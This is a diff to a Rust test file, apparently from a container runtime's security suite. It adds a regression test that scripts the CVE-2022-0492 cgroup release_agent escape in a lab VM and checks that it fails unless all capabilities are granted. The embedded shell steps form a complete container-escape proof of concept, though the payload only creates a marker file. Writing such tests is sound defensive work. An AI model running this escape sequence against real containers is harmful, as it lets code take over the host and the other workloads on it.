@@ -38,6 +38,32 @@ fn cve_2022_0492() {
     }
 }
 
+/// The whole of it, in a VM whose kernel it may subvert: the kernel of the host runs a program of
+/// the container when the last process of a group ends.
+fn release_agent_runs(runtime: Runtime) -> Outcome {
+    let mut lab = Lab::new(runtime);
+    fs::create_dir(lab.rootfs().join("mnt")).unwrap();
+    let owned = lab.outside().join("owned");
+    // Where its root lies on the host, a container reads in its mountinfo.
+    let agent = lab.rootfs().join("agent");
+    lab.script(&format!(
+        "printf '#!/bin/sh\\ntouch {}\\n' >/agent; chmod 755 /agent
+         mount -t cgroup -o pids cgroup /mnt || exit 1
+         mkdir /mnt/x; echo 1 >/mnt/x/notify_on_release; echo {} >/mnt/release_agent
+         sh -c 'echo $$ >/mnt/x/cgroup.procs'; sleep 1",
+        owned.display(),
+        agent.display(),
+    ));
+    let ran = lab.run();
+    if owned.exists() { Outcome::Succeeded } else { ran.stopped() }
+}
+
+#[corten_tier::t2(v1)]
+fn cve_2022_0492_runs_on_the_host() {
+    fails(release_agent_runs);
+    succeeds_without("all capabilities", release_agent_runs);
+}
+
 // ANCHOR: cve_2022_29162
 /// A process with inheritable capabilities hands them on to a program whose file has the same ones
 /// inheritable, also where it runs as a user who has none.
